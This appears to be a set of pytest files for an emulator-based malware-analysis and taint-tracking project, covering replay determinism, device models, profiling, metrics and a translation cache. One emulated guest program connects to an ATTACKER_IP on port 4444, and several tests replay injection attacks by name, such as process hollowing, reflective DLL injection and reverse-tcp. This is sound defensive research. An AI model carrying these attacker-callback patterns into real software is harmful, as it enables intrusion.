    mov r7, r0
    mov r1, r7
    movi r2, ip
    movi r3, 4444
    movi r0, SYS_CONNECT
    syscall
    movi r4, buf
    movi r5, 32
rx:
    mov r1, r7
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz rx
    mov r1, r7
    movi r2, buf
    movi r3, 32
    movi r0, SYS_SEND
    syscall
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
ip: .asciz "{ip}"
buf: .space 32
"""


def echo_scenario(payload: bytes, ticks):
    source = ECHO_SOURCE.format(ip=ATTACKER_IP)
    prog = assemble(program(source), base=layout.IMAGE_BASE)

    def setup(machine):
        machine.kernel.register_image("echo.exe", prog)
        machine.kernel.spawn("echo.exe")

    # Split payload across one packet per tick.
    chunk = max(1, len(payload) // len(ticks))
    events = []
    offset = 0
    for i, tick in enumerate(sorted(ticks)):
        data = payload[offset : offset + chunk] if i < len(ticks) - 1 else payload[offset:]
        offset += len(data)
        events.append(
            (
                tick,
                PacketEvent(
                    Packet(ATTACKER_IP, 4444, GUEST_IP, FIRST_EPHEMERAL_PORT, data)
                ),
            )
        )
    return Scenario(name="echo", setup=setup, events=events, max_instructions=400_000)


class TestReplayDeterminism:
    @given(
        payload=st.binary(min_size=32, max_size=32),
        ticks=st.lists(
            st.integers(1_000, 80_000), min_size=1, max_size=4, unique=True
        ),
    )
    @settings(max_examples=15, deadline=None)
    def test_replay_never_diverges(self, payload, ticks):
        recording = record(echo_scenario(payload, ticks))
        machine = replay(recording)  # raises ReplayDivergence on mismatch
        assert machine.now == recording.final_instret

    @given(payload=st.binary(min_size=32, max_size=32))
    @settings(max_examples=10, deadline=None)
    def test_guest_output_reproduced_exactly(self, payload):
        scenario = echo_scenario(payload, [5_000])
        first = scenario.run()
        second = scenario.run()
        out1 = [p.payload for p in first.devices.nic.tx_log]
        out2 = [p.payload for p in second.devices.nic.tx_log]
        assert out1 == out2
        assert any(payload == p for p in out1 if p)

    @given(ticks=st.lists(st.integers(1_000, 50_000), min_size=2, max_size=3, unique=True))
    @settings(max_examples=8, deadline=None)
    def test_replay_with_analysis_plugin_matches(self, ticks):
        from repro.faros import Faros

        recording = record(echo_scenario(b"\xaa" * 32, ticks))
        machine = replay(recording, plugins=[Faros()])
        assert machine.now == recording.final_instret
