"""Unit tests for device models."""

import pytest

from repro.faults.errors import DeviceFault

from repro.emulator.devices import (
    AudioSource,
    DeviceBoard,
    Keyboard,
    NetworkInterface,
    Packet,
    ScreenDevice,
)


class TestPacket:
    def test_flow_tuple(self):
        p = Packet("1.1.1.1", 80, "2.2.2.2", 9000, b"x")
        assert p.flow == ("1.1.1.1", 80, "2.2.2.2", 9000)

    def test_repr_mentions_endpoints(self):
        p = Packet("1.1.1.1", 80, "2.2.2.2", 9000, b"abc")
        assert "1.1.1.1:80" in repr(p) and "3 bytes" in repr(p)


class TestNic:
    def test_rx_fifo_order(self):
        nic = NetworkInterface()
        a = Packet("1.1.1.1", 1, nic.ip, 2, b"a")
        b = Packet("1.1.1.1", 1, nic.ip, 2, b"b")
        nic.receive(a)
        nic.receive(b)
        assert nic.pop_rx() is a and nic.pop_rx() is b and nic.pop_rx() is None

    def test_tx_log_accumulates(self):
        nic = NetworkInterface()
        nic.transmit(Packet(nic.ip, 1, "9.9.9.9", 2, b"x"))
        assert len(nic.tx_log) == 1


class TestKeyboard:
    def test_reads_drain_fifo(self):
        kb = Keyboard()
        kb.type_keys(b"abcdef")
        assert kb.read(4) == b"abcd"
        assert kb.read(4) == b"ef"
        assert kb.read(4) == b""

    def test_pending_count(self):
        kb = Keyboard()
        kb.type_keys(b"xy")
        assert kb.pending == 2


class TestAudio:
    def test_deterministic_given_seed(self):
        assert AudioSource(seed=7).read(16) == AudioSource(seed=7).read(16)

    def test_different_seeds_differ(self):
        assert AudioSource(seed=1).read(16) != AudioSource(seed=2).read(16)

    def test_stream_advances(self):
        src = AudioSource()
        assert src.read(8) != src.read(8)


class TestScreen:
    def test_draw_capture_roundtrip(self):
        screen = ScreenDevice(size=64)
        screen.draw(10, b"PIXELS")
        assert screen.capture(10, 6) == b"PIXELS"

    def test_draw_out_of_bounds_rejected(self):
        screen = ScreenDevice(size=16)
        with pytest.raises(DeviceFault) as exc:
            screen.draw(12, b"too long")
        # Device errors are DeviceFault, not host ValueError/MemoryError.
        assert not isinstance(exc.value, (ValueError, MemoryError))

    def test_capture_out_of_bounds_rejected(self):
        screen = ScreenDevice(size=16)
        with pytest.raises(DeviceFault):
            screen.capture(10, 10)


class TestBoard:
    def test_default_board_complete(self):
        board = DeviceBoard()
        assert board.nic and board.keyboard and board.audio and board.screen
