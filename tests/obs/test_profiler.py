"""Hot-block profiler: determinism under record/replay, sampling, session wiring."""

import pytest

from repro.analysis.triage import ATTACK_BUILDER_REGISTRY
from repro.emulator.record_replay import record, replay
from repro.faros import Faros
from repro.obs.profiler import HotBlockProfiler
from repro.obs.session import ObsSession


@pytest.fixture(scope="module")
def recording():
    return record(ATTACK_BUILDER_REGISTRY["code_injection"]().scenario)


def _profile_replay(recording, sample_every=1):
    session = ObsSession.create(enabled=True, sample_every=sample_every)
    faros = Faros(metrics=session.registry)
    replay(recording, plugins=session.plugins_for(faros),
           metrics=session.registry)
    return session


class TestDeterminism:
    def test_top_n_identical_across_replays(self, recording):
        # Two independent replays of the same recording must rank the
        # same blocks with the same weights -- the record/replay
        # substrate is deterministic and the ranking is a total order.
        first = _profile_replay(recording).profiler
        second = _profile_replay(recording).profiler
        assert [b.to_dict() for b in first.top(10)] == [
            b.to_dict() for b in second.top(10)
        ]
        assert first.observed == second.observed
        assert first.unattributed == second.unattributed

    def test_ranking_is_a_total_order(self, recording):
        top = _profile_replay(recording).profiler.top(50)
        keys = [(-b.retired, -b.taint_slow, b.start_pc) for b in top]
        assert keys == sorted(keys)
        # Start addresses are unique, so no two rows can tie completely.
        assert len({b.start_pc for b in top}) == len(top)


class TestSampling:
    def test_exact_mode_attributes_every_observed_instruction(self, recording):
        profiler = _profile_replay(recording, sample_every=1).profiler
        total_weight = sum(cell[0] for cell in profiler._blocks.values())
        assert total_weight == profiler.observed > 0

    def test_sampled_mode_scales_weights(self, recording):
        exact = _profile_replay(recording, sample_every=1).profiler
        sampled = _profile_replay(recording, sample_every=7).profiler
        # Same deterministic instruction stream in both runs...
        assert sampled.observed == exact.observed
        # ...but sampled attribution only lands every 7th observation,
        # each carrying weight 7 -- total weight stays within one stride.
        total = sum(cell[0] for cell in sampled._blocks.values())
        assert total == (sampled.observed // 7) * 7

    def test_sample_every_must_be_positive(self):
        with pytest.raises(ValueError):
            HotBlockProfiler(sample_every=0)


class TestSessionWiring:
    def test_plugins_for_orders_profiler_after_tracker(self, recording):
        session = ObsSession.create(enabled=True)
        faros = Faros(metrics=session.registry)
        plugins = session.plugins_for(faros)
        assert plugins == [faros, session.profiler]
        assert session.profiler.tracker is faros.tracker

    def test_disabled_session_has_no_profiler(self):
        session = ObsSession.create(enabled=False)
        faros = Faros()
        assert session.profiler is None
        assert session.plugins_for(faros) == [faros]
        assert session.snapshot()["hot_blocks"] is None

    def test_snapshot_carries_taint_attribution(self, recording):
        snap = _profile_replay(recording).snapshot()
        top = snap["hot_blocks"]["top"]
        assert top, "an attack replay must surface hot blocks"
        assert sum(b["taint_slow"] for b in top) > 0
        # Gauge/profiler coverage agree: every slow retirement the
        # tracker booked was attributed to some block.
        attributed = sum(b["taint_slow"] for b in top)
        assert attributed <= snap["gauges"]["taint.slow_retirements"]


class TestPassiveMode:
    def test_passive_declines_insn_effects(self):
        assert HotBlockProfiler().wants_insn_effects() is True
        assert HotBlockProfiler(passive=True).wants_insn_effects() is False

    def test_passive_attributes_from_translation_cache(self):
        # Recording-style run (no taint plugin): with the passive
        # profiler attached the machine stays on the translated path,
        # and the rankings come off the cache's own retirement counters.
        scenario = ATTACK_BUILDER_REGISTRY["code_injection"]().scenario
        profiler = HotBlockProfiler(passive=True)
        machine = scenario.run(plugins=[profiler])
        assert machine.translator.executions > 0
        assert profiler.observed == 0  # never forced instrumentation
        assert profiler.unattributed > 0  # bulk retirements were flushed

        snap = profiler.snapshot()
        assert snap["passive"] is True
        assert snap["translated_retired"] > 0
        cached = {
            b.start_pc: b.retired
            for b in machine.translator.blocks()
            if b.exec_count
        }
        top = profiler.top(10)
        assert top
        for entry in top:
            assert entry.retired == cached[entry.start_pc]

    def test_default_snapshot_has_no_passive_fields(self, recording):
        snap = _profile_replay(recording).profiler.snapshot()
        assert "passive" not in snap
        assert "translated_retired" not in snap
