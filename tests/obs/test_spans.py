"""Unit tests for the phase tracer."""

from repro.obs.spans import NULL_TRACER, Tracer


class TestTracer:
    def test_records_name_and_duration(self):
        tracer = Tracer(enabled=True)
        with tracer.span("boot"):
            pass
        [span] = tracer.spans
        assert span.name == "boot"
        assert span.parent is None and span.depth == 0
        assert span.duration_s >= 0.0

    def test_nesting_records_parent_and_depth(self):
        tracer = Tracer(enabled=True)
        with tracer.span("detection"):
            with tracer.span("report"):
                pass
        # Completion order: inner first.
        inner, outer = tracer.spans
        assert inner.name == "report"
        assert inner.parent == "detection" and inner.depth == 1
        assert outer.name == "detection" and outer.depth == 0

    def test_to_dicts_comes_back_in_start_order(self):
        tracer = Tracer(enabled=True)
        with tracer.span("outer"):
            with tracer.span("inner"):
                pass
        assert [d["name"] for d in tracer.to_dicts()] == ["outer", "inner"]

    def test_guest_clock_bracketing(self):
        tracer = Tracer(enabled=True)
        ticks = iter((100, 250))
        with tracer.span("detection", clock=lambda: next(ticks)):
            pass
        [span] = tracer.spans
        assert span.start_tick == 100 and span.end_tick == 250

    def test_span_survives_exceptions(self):
        tracer = Tracer(enabled=True)
        try:
            with tracer.span("boom"):
                raise ValueError("x")
        except ValueError:
            pass
        assert [s.name for s in tracer.spans] == ["boom"]
        # The stack unwound, so the next span is top-level again.
        with tracer.span("after"):
            pass
        assert tracer.spans[-1].depth == 0


class TestDisabledTracer:
    def test_records_nothing(self):
        with NULL_TRACER.span("boot"):
            pass
        assert NULL_TRACER.spans == []

    def test_clock_never_called(self):
        def explode():
            raise AssertionError("disabled tracer must not sample the clock")

        with NULL_TRACER.span("boot", clock=explode):
            pass
