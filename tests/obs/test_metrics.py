"""Unit tests for the metrics registry and its zero-cost disabled path."""

from repro.obs.metrics import (
    DEFAULT_BUCKETS,
    MetricsRegistry,
    NULL_COUNTER,
    NULL_HISTOGRAM,
    NULL_REGISTRY,
)


class TestCounter:
    def test_inc_defaults_to_one(self):
        ctr = MetricsRegistry(enabled=True).counter("a")
        ctr.inc()
        ctr.inc(4)
        assert ctr.value == 5

    def test_same_name_returns_same_instrument(self):
        registry = MetricsRegistry(enabled=True)
        assert registry.counter("a") is registry.counter("a")
        assert registry.counter("a") is not registry.counter("b")


class TestDisabledRegistry:
    """The zero-overhead contract: a disabled registry hands out the
    shared process-wide null singletons, so instrumented call sites pay
    one no-op method call and zero allocations."""

    def test_counter_identity(self):
        registry = MetricsRegistry(enabled=False)
        assert registry.counter("taint.instructions") is NULL_COUNTER
        assert registry.counter("anything.else") is NULL_COUNTER

    def test_histogram_identity(self):
        assert NULL_REGISTRY.histogram("x") is NULL_HISTOGRAM

    def test_gauge_registration_is_dropped(self):
        assert NULL_REGISTRY.gauge("x", lambda: 1) is None

    def test_null_instruments_absorb_updates(self):
        NULL_COUNTER.inc()
        NULL_COUNTER.inc(100)
        NULL_HISTOGRAM.observe(42.0)
        assert NULL_COUNTER.value == 0

    def test_snapshot_is_empty(self):
        registry = MetricsRegistry(enabled=False)
        registry.counter("a").inc()
        registry.gauge("b", lambda: 2)
        snap = registry.snapshot()
        assert snap == {"counters": {}, "gauges": {}, "histograms": {}}

    def test_machine_and_faros_default_to_null_registry(self):
        from repro.emulator.machine import Machine, MachineConfig
        from repro.faros import Faros

        assert Machine(MachineConfig()).metrics is NULL_REGISTRY
        assert Faros().metrics is NULL_REGISTRY


class TestGauge:
    def test_pull_based_sampling(self):
        # The callback is read at snapshot time, so the instrumented
        # structure's *current* value shows up -- no hot-path pushes.
        registry = MetricsRegistry(enabled=True)
        box = {"n": 1}
        registry.gauge("box.n", lambda: box["n"])
        box["n"] = 7
        assert registry.snapshot()["gauges"]["box.n"] == 7

    def test_reregistration_replaces_callback(self):
        registry = MetricsRegistry(enabled=True)
        registry.gauge("g", lambda: 1)
        registry.gauge("g", lambda: 2)
        assert registry.snapshot()["gauges"]["g"] == 2


class TestHistogram:
    def test_inclusive_upper_edges(self):
        registry = MetricsRegistry(enabled=True)
        hist = registry.histogram("h", bounds=(10, 100))
        hist.observe(10)    # == first bound -> bucket 0
        hist.observe(11)    # -> bucket 1
        hist.observe(1000)  # beyond last bound -> overflow bucket
        assert hist.counts == [1, 1, 1]
        assert hist.total == 3 and hist.sum == 1021.0

    def test_default_bounds_are_sorted_powers_of_four(self):
        assert DEFAULT_BUCKETS == tuple(sorted(DEFAULT_BUCKETS))
        assert DEFAULT_BUCKETS[0] == 4 and DEFAULT_BUCKETS[1] == 16

    def test_to_dict_shape(self):
        hist = MetricsRegistry(enabled=True).histogram("h", bounds=(1, 2))
        hist.observe(1.5)
        assert hist.to_dict() == {
            "bounds": [1, 2], "counts": [0, 1, 0], "total": 1, "sum": 1.5,
        }


class TestSnapshot:
    def test_names_come_back_sorted(self):
        registry = MetricsRegistry(enabled=True)
        for name in ("z.last", "a.first", "m.middle"):
            registry.counter(name).inc()
        assert list(registry.snapshot()["counters"]) == [
            "a.first", "m.middle", "z.last",
        ]
