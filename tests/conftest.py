"""Shared fixtures and guest-program helpers for the test suite."""

from __future__ import annotations

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble


@pytest.fixture
def machine() -> Machine:
    return Machine(MachineConfig())


def register_asm(machine: Machine, path: str, *sections: str):
    """Assemble a guest program (with the standard prelude) and install it."""
    prog = assemble(program(*sections), base=layout.IMAGE_BASE)
    machine.kernel.register_image(path, prog)
    return prog


def spawn_asm(machine: Machine, path: str, *sections: str, name=None, suspended=False):
    """Register and immediately spawn a guest program."""
    register_asm(machine, path, *sections)
    return machine.kernel.spawn(path, name=name, suspended=suspended)
