"""Shared fixtures and guest-program helpers for the test suite.

Markers
-------

``slow``
    Long-running randomized suites -- the differential harness and
    hypothesis property tests at high example counts
    (``tests/taint/test_differential.py``, the exhaustive benchmark
    assertions).  Deselected by default via ``addopts = "-m 'not slow'"``
    in ``pyproject.toml``; run them with::

        PYTHONPATH=src python -m pytest -m slow

    or everything at once with ``-m ''`` (an empty marker expression
    overrides the default deselection).
"""

from __future__ import annotations

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble


@pytest.fixture
def machine() -> Machine:
    return Machine(MachineConfig())


def register_asm(machine: Machine, path: str, *sections: str):
    """Assemble a guest program (with the standard prelude) and install it."""
    prog = assemble(program(*sections), base=layout.IMAGE_BASE)
    machine.kernel.register_image(path, prog)
    return prog


def spawn_asm(machine: Machine, path: str, *sections: str, name=None, suspended=False):
    """Register and immediately spawn a guest program."""
    register_asm(machine, path, *sections)
    return machine.kernel.spawn(path, name=name, suspended=suspended)
