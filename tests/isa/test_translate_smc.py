"""Self-modifying / injected code vs the translation cache.

Injected code is freshly *written* memory, so stale-block invalidation
is the threat model, not an edge case.  Three layers of proof:

* unit: every write channel into a watched page (byte/word/bulk store,
  guest store instruction, frame recycling) bumps the code version and
  invalidates cached blocks;
* machine: a guest that patches its own instructions executes the *new*
  bytes, identically to the interpreted path;
* attacks: every scenario runs through the cache, and the attacks that
  overwrite previously-executed code (process hollowing and the
  code-injection family) are seen invalidating.  The attacks that write
  payloads into *freshly allocated* pages (reflective DLL, reverse-tcp,
  BypassUAC) never had those pages translated before the write -- the
  version captured at first translation already covers the injected
  bytes, so zero invalidations is the correct count for them (and the
  full-run differential in ``test_translate_diff.py`` proves no stale
  execution regardless).
"""

import dataclasses

import pytest

from repro.analysis.triage import ATTACK_BUILDER_REGISTRY
from repro.emulator.machine import Machine, MachineConfig
from repro.isa.assembler import assemble
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, FrameAllocator, PhysicalMemory
from repro.isa.registers import Reg

from tests.conftest import spawn_asm
from tests.isa.test_cpu import MEM_SIZE, make_cpu
from tests.isa.test_translate import make_translated, run_translated

#: Attacks that overwrite code the victim had already executed (and the
#: cache had therefore already translated).
OVERWRITING_ATTACKS = [
    "process_hollowing",
    "code_injection",
    "darkcomet_injection",
    "njrat_injection",
]
FRESH_PAGE_ATTACKS = sorted(set(ATTACK_BUILDER_REGISTRY) - set(OVERWRITING_ATTACKS))


def run_attack(attack: str) -> Machine:
    """One recording-style (uninstrumented) run of *attack*, translated."""
    scenario = ATTACK_BUILDER_REGISTRY[attack]().scenario
    config = scenario.config if scenario.config is not None else MachineConfig()
    scenario = dataclasses.replace(
        scenario, config=dataclasses.replace(config, translate=True)
    )
    machine = scenario.build()
    machine.run(scenario.max_instructions)
    return machine


class TestUnitInvalidation:
    def test_external_write_invalidates_cached_block(self):
        cpu, tr = make_translated("movi r1, 1\nhlt")
        tr.lookup(cpu)
        assert tr.invalidations == 0
        # Patch the first instruction to movi r1, 2 (a bulk write, the
        # channel image loads and NtWriteVirtualMemory use).
        cpu.memory.write_bytes(0, assemble("movi r1, 2").code)
        run_translated(cpu, tr)
        assert tr.invalidations == 1
        assert cpu.regs.read(Reg.R1) == 2  # the NEW bytes executed

    def test_single_byte_write_invalidates(self):
        cpu, tr = make_translated("movi r1, 1\nhlt")
        block = tr.lookup(cpu)
        cpu.memory.write_byte(4, 0x07)  # rewrite the immediate's low byte
        assert cpu.memory.code_version(block.phys_page) == 1
        run_translated(cpu, tr)
        assert tr.invalidations == 1
        assert cpu.regs.read(Reg.R1) == 7

    def test_unrelated_page_write_does_not_invalidate(self):
        cpu, tr = make_translated("movi r1, 1\nhlt")
        tr.lookup(cpu)
        cpu.memory.write_bytes(8 * PAGE_SIZE, b"\xff" * 16)
        run_translated(cpu, tr)
        assert tr.invalidations == 0

    def test_guest_store_into_own_block_stops_precisely(self):
        # The program overwrites its OWN next instruction (movi r2, 1
        # becomes movi r2, 9 -- same opcode, patched immediate) with a
        # store *inside* the already-executing block.  The stale closure
        # for the next instruction must not run.
        source = (
            "movi r1, 9\n"
            "st [r3+20], r1\n"   # r3=0: patch the imm field of "movi r2, 1"
            "movi r2, 1\n"
            "hlt"
        )
        ref = make_cpu(source)
        while not ref.halted:
            ref.step_fast()
        cpu, tr = make_translated(source)
        run_translated(cpu, tr)
        assert cpu.regs.read(Reg.R2) == 9 == ref.regs.read(Reg.R2)
        assert cpu.instret == ref.instret
        assert tr.invalidations >= 1

    def test_frame_recycling_bumps_versions_monotonically(self):
        memory = PhysicalMemory(MEM_SIZE)
        allocator = FrameAllocator(memory)
        frame = allocator.alloc()
        memory.watch_code_page(frame)
        v0 = memory.code_version(frame)
        memory.write_bytes(frame << PAGE_SHIFT, assemble("hlt").code)
        v1 = memory.code_version(frame)
        assert v1 > v0
        allocator.free(frame)
        assert allocator.alloc() == frame  # recycled...
        # ...and the zeroing wrote through the watched page, so any
        # block keyed on v1 can never validate again.
        assert memory.code_version(frame) > v1


class TestSelfPatchingGuest:
    SELF_PATCH = """
    start:
        movi r4, patchme
        movi r1, 7
        stb [r4+4], r1
        jmp patchme
    patchme:
        movi r5, 1
        movi r0, SYS_EXIT
        movi r1, 0
        syscall
    """

    def test_machine_executes_patched_bytes(self):
        finals = {}
        for translate in (True, False):
            machine = Machine(MachineConfig(translate=translate))
            proc = spawn_asm(machine, "patch.exe", self.SELF_PATCH)
            machine.run(10_000)
            finals[translate] = (machine.now, proc.exit_code)
            if translate:
                # The patch landed in an already-translated (watched)
                # page, so the stale block must have been invalidated.
                assert machine.translator.invalidations >= 1
        assert finals[True] == finals[False]


class TestAttackInvalidation:
    @pytest.mark.parametrize("attack", sorted(ATTACK_BUILDER_REGISTRY))
    def test_attack_recording_runs_through_the_cache(self, attack):
        machine = run_attack(attack)
        tr = machine.translator
        assert tr.executions > 0
        assert tr.translations > 0
        # Whatever remains cached is valid against current memory: no
        # block survives the writes its page received.
        for block in tr.blocks():
            if block.exec_count:
                assert block.version <= machine.memory.code_version(block.phys_page)

    @pytest.mark.parametrize("attack", OVERWRITING_ATTACKS)
    def test_overwriting_attacks_invalidate(self, attack):
        machine = run_attack(attack)
        assert machine.translator.invalidations > 0

    @pytest.mark.parametrize("attack", FRESH_PAGE_ATTACKS)
    def test_fresh_page_attacks_translate_after_the_write(self, attack):
        # Payloads land in pages never executed before the injection, so
        # there is nothing to invalidate -- but the injected code still
        # executes through the cache (translations cover its pages).
        machine = run_attack(attack)
        assert machine.translator.invalidations == 0
        assert machine.translator.executions > 0
