"""Differential harness: block-cache execution vs the seed paths.

The translation cache's whole contract is *bit-identity*: with
``MachineConfig.translate`` on or off, a run must retire the same
instruction stream, deliver the same journal, record the same faults,
and produce the same FAROS report.  This file asserts that end-to-end:

* across all seven attack scenarios (record + analysis replay);
* under a watchdog ``instruction_budget`` trip;
* under a journaled :class:`FaultPlan` ``instret`` trigger;
* and (slow-marked) across randomized guest programs, including
  self-modifying ones, at the bare-CPU level against ``step_fast``.
"""

import dataclasses

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.triage import ATTACK_BUILDER_REGISTRY
from repro.emulator.machine import MachineConfig
from repro.emulator.record_replay import record, replay
from repro.faros import Faros
from repro.faults.plan import FaultPlan, FaultRule
from repro.isa.cpu import CPU
from repro.isa.errors import GuestFault
from repro.isa.instructions import Instruction, Op, encode
from repro.isa.memory import PAGE_SIZE, PhysicalMemory
from repro.isa.registers import NUM_REGS, Reg
from repro.isa.translate import BlockTranslator
from repro.obs.metrics import MetricsRegistry
from repro.taint.intern import ProvInterner
from repro.taint.tracker import TaintTracker

ATTACKS = sorted(ATTACK_BUILDER_REGISTRY)


def with_translate(scenario, translate: bool):
    """The same scenario, pinned to one execution path."""
    config = scenario.config if scenario.config is not None else MachineConfig()
    config = dataclasses.replace(config, translate=translate)
    return dataclasses.replace(scenario, config=config)


def journal_repr(journal):
    return [(at, repr(event)) for at, event in journal]


def faults_json(machine):
    return [record.to_json_dict() for record in machine.fault_records]


def record_one(scenario, translate: bool):
    return record(with_translate(scenario, translate))


def comparable_metrics(snapshot):
    """A metrics snapshot minus the ``translate.*`` gauges.

    Everything an analysis consumer reads -- taint stats, interner
    counters, detector counters, machine event/fault counters -- must be
    identical across the translate dimension; only the block cache's own
    instrumentation legitimately differs (it does not exist at all with
    translation off)."""
    return {
        kind: {
            name: value
            for name, value in entries.items()
            if not name.startswith("translate.")
        }
        for kind, entries in snapshot.items()
    }


class TestAttackDifferential:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_full_run_bit_identical(self, attack):
        outcomes = {}
        for translate in (True, False):
            scenario = with_translate(
                ATTACK_BUILDER_REGISTRY[attack]().scenario, translate
            )
            recording = record(scenario)
            metrics = MetricsRegistry()
            # A per-run interner: with the process-wide default, the
            # first leg would warm the memoisation caches and skew the
            # second leg's hit/miss gauges.
            faros = Faros(
                metrics=metrics,
                tracker_cls=lambda policy, tags, **kw: TaintTracker(
                    policy=policy, tags=tags, interner=ProvInterner(), **kw
                ),
            )
            machine = replay(recording, plugins=[faros], metrics=metrics)
            outcomes[translate] = (recording, faros, machine, metrics)
        rec_on, faros_on, machine_on, metrics_on = outcomes[True]
        rec_off, faros_off, machine_off, metrics_off = outcomes[False]

        assert rec_on.final_instret == rec_off.final_instret
        assert journal_repr(rec_on.journal) == journal_repr(rec_off.journal)
        assert rec_on.stats.stop_reason == rec_off.stats.stop_reason
        assert machine_on.now == machine_off.now
        assert faults_json(machine_on) == faults_json(machine_off)
        assert faros_on.attack_detected == faros_off.attack_detected
        assert (
            faros_on.report().to_json_dict() == faros_off.report().to_json_dict()
        )
        # The rendered report (provenance chains included) and the full
        # metrics snapshot must also match -- the taint-on dimension of
        # the differential: the translate-on analysis replay dispatches
        # through the translated-tainted tier, the off side through the
        # instrumented interpreter.
        assert faros_on.report().render() == faros_off.report().render()
        assert comparable_metrics(metrics_on.snapshot()) == comparable_metrics(
            metrics_off.snapshot()
        )
        # The comparison is only meaningful if the block cache actually
        # exists on the translate-on side and is absent on the other.
        # (The analysis replay itself is instrumented from boot -- FAROS
        # plants export-table tags at module load, which share 4 KiB
        # shadow pages with module code here, so the tier's interpreter
        # window does the bulk of the work; fused-block usage is pinned
        # in test_translate_taint.py and the differential matrix.)
        assert machine_on.translator is not None
        assert machine_off.translator is None
        tstats = machine_on.translator.stats()
        assert tstats["taint_lookups"] > 0
        assert tstats["taint_single_steps"] > 0


class TestWatchdogExactness:
    @pytest.mark.parametrize("attack", ["reflective_dll_inject", "process_hollowing"])
    def test_instruction_budget_trips_at_identical_tick(self, attack):
        recordings = {}
        for translate in (True, False):
            scenario = with_translate(
                ATTACK_BUILDER_REGISTRY[attack]().scenario, translate
            )
            scenario.config = dataclasses.replace(
                scenario.config, instruction_budget=50_000
            )
            recordings[translate] = record(scenario)
        on, off = recordings[True], recordings[False]
        assert on.stats.stop_reason == "fault" == off.stats.stop_reason
        assert on.stats.fault.kind == "WatchdogExpired"
        assert on.stats.fault.to_json_dict() == off.stats.fault.to_json_dict()
        assert on.final_instret == off.final_instret
        assert journal_repr(on.journal) == journal_repr(off.journal)


class TestFaultPlanExactness:
    @pytest.mark.parametrize("attack", ["code_injection"])
    def test_instret_trigger_fires_at_identical_retirement(self, attack):
        plan = FaultPlan(
            rules=(
                FaultRule(
                    trigger="instret",
                    at=12_345,
                    action="fault",
                    fault_kind="DeviceFault",
                    detail="translate-diff probe",
                ),
            )
        )
        recordings = {
            translate: record_one(
                plan.apply(ATTACK_BUILDER_REGISTRY[attack]().scenario), translate
            )
            for translate in (True, False)
        }
        on, off = recordings[True], recordings[False]
        assert on.stats.stop_reason == "fault" == off.stats.stop_reason
        assert on.stats.fault.to_json_dict() == off.stats.fault.to_json_dict()
        assert on.final_instret == off.final_instret
        assert journal_repr(on.journal) == journal_repr(off.journal)
        # The trigger is a journaled event: it must appear at the same
        # tick in both journals (the exactness rule under test).
        marks_on = [at for at, ev in on.journal if "DeviceFault" in repr(ev)]
        marks_off = [at for at, ev in off.journal if "DeviceFault" in repr(ev)]
        assert marks_on == marks_off != []


# ---------------------------------------------------------------------------
# randomized bare-CPU sweep (slow)
# ---------------------------------------------------------------------------

RAND_MEM = 16 * PAGE_SIZE  # power of two, so masking preserves page offsets
RAND_CAP = 600             # retirement cap per random program


class MaskMMU:
    """Wraps every access into the test memory, page-consistently."""

    def translate(self, vaddr, access):
        return vaddr & (RAND_MEM - 1)


_REG = st.integers(0, NUM_REGS - 1)
_STRAIGHT_OPS = st.sampled_from(
    [
        Op.NOP, Op.MOV, Op.MOVI, Op.LD, Op.ST, Op.LDB, Op.STB, Op.PUSH, Op.POP,
        Op.ADD, Op.SUB, Op.MUL, Op.AND, Op.OR, Op.XOR, Op.SHL, Op.SHR,
        Op.ADDI, Op.SUBI, Op.MULI, Op.ANDI, Op.ORI, Op.XORI, Op.SHLI, Op.SHRI,
        Op.NOT, Op.CMP, Op.CMPI, Op.SYSCALL,
    ]
)
_TERM_OPS = st.sampled_from(
    [Op.JMP, Op.JZ, Op.JNZ, Op.JLT, Op.JGE, Op.JLE, Op.JGT,
     Op.CALL, Op.CALLR, Op.JMPR, Op.RET]
)
_IMM = st.one_of(
    st.integers(0, RAND_MEM - 8),            # plausible addresses
    st.integers(0, 0xFFFFFFFF),              # arbitrary 32-bit data
    st.builds(lambda k: k * 8, st.integers(0, 60)),  # aligned jump targets
)


def _insn(op, rd, rs1, rs2, imm):
    return Instruction(op, Reg(rd), Reg(rs1), Reg(rs2), imm)


_INSNS = st.one_of(
    st.builds(_insn, _STRAIGHT_OPS, _REG, _REG, _REG, _IMM),
    st.builds(_insn, _TERM_OPS, _REG, _REG, _REG, _IMM),
)


def _fresh_cpu(code: bytes) -> CPU:
    mem = PhysicalMemory(RAND_MEM)
    mem.write_bytes(0, code)
    cpu = CPU(mem, mmu=MaskMMU())
    cpu.regs.write(Reg.SP, RAND_MEM - 16)
    return cpu


def _run_capped(cpu, stepper) -> tuple:
    """Run until HLT, fault, or the retirement cap; summarize the end state."""
    fault = None
    try:
        while not cpu.halted and cpu.instret < RAND_CAP:
            stepper(cpu)
    except GuestFault as exc:
        fault = type(exc).__name__
    return (
        cpu.instret,
        cpu.pc,
        cpu.regs.snapshot(),
        cpu.flag_z,
        cpu.flag_n,
        cpu.halted,
        fault,
        cpu.memory.read_bytes(0, RAND_MEM),
    )


@pytest.mark.slow
class TestRandomizedDifferential:
    @given(insns=st.lists(_INSNS, min_size=1, max_size=40))
    @settings(max_examples=300, deadline=None)
    def test_random_programs_match_step_fast(self, insns):
        code = b"".join(encode(i) for i in insns) + encode(Instruction(Op.HLT))
        ref = _fresh_cpu(code)
        ref_end = _run_capped(ref, lambda c: c.step_fast())

        cpu = _fresh_cpu(code)
        translator = BlockTranslator(cpu.memory)
        trans_end = _run_capped(
            cpu, lambda c: translator.run(c, RAND_CAP - c.instret)
        )
        assert trans_end == ref_end
