"""Unit tests for the basic-block translation cache (repro.isa.translate).

The differential attack-level suites live in ``test_translate_diff.py``
and ``test_translate_smc.py``; this file pins the translator's local
contracts -- block shapes, cache reuse, chaining, budget exactness,
precise faults, and the single-step escape hatch for page-straddling
instructions.
"""

import pytest

from repro.isa.assembler import assemble
from repro.isa.cpu import CPU, AccessKind, FlatMMU, cached_decode, decode_cache_info
from repro.isa.errors import InvalidInstruction, PageFault
